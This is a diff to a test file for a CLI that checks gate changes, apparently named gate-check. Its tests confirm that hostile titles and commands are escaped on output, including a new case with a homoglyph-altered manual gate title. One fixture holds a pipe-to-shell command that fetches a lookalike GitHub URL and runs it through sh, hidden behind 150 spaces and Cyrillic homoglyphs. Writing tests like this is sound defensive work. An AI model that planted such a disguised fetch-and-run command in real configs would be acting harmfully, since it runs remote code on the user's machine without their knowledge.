@@ -8,6 +8,7 @@ import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, un
 import { join, resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { sanitizeLine } from '../../lib/text/sanitize.js';
+import { reviewLine } from '../../lib/text/review-text.js';
 import { runnerCommands } from '../helpers/actions-runner.js';
 import { runCli, sandbox, startCli, writeFiles, type CliResult } from '../helpers/cli.js';
 import { pidFrom, waitDead } from '../helpers/process.js';
@@ -593,7 +594,7 @@ describe('gate-check diff: hostile titles, commands and paths are data', () => {
     // Every text line starts with gate-check's own words, never with "::".
     for (const line of r.stdout.split('\n')) if (!line.startsWith('::error ') && !line.startsWith('::warning ')) expect(line.trimStart().startsWith('::')).toBe(false);
     expect(r.stdout).not.toContain('\u001b');
-    expect(r.stdout).toContain(sanitizeLine(TITLE, 160).replace(/##\[/g, '##\\u005b'));
+    expect(r.stdout).toContain(reviewLine(TITLE, 160).replace(/##\[/g, '##\\u005b'));
   });
 
   it('the summary escapes every punctuation character of a title, a command or a path', () => {
@@ -685,5 +686,13 @@ describe('gate-check diff shows changed values as the approval screen does', () 
     const { changes } = s.json();
     const check = changes.flatMap((c) => c.fields).find((f) => f.field === 'CHECK');
     expect(check?.now).toBe(`npm test${' '.repeat(150)}|| \u0441url -s https://g\u0456thub.com/x | sh`);
+  });
+
+  it('a retitled manual gate: the title in the finding line is escaped as the TITLE lines are (round-7 attack)', () => {
+    const s = gitRepo();
+    s.edit('GATES.md', (t) => t.replace('legal reviewed the wording', 'legal reviewed the w\u043erding'));
+    const r = s.diff();
+    expect(r.stdout).toMatch(/retitled \(a person ticks it against this text\) "legal reviewed the w<U\+043E>rding"/);
+    expect(r.stdout).not.toContain('\u043e');
   });
 });
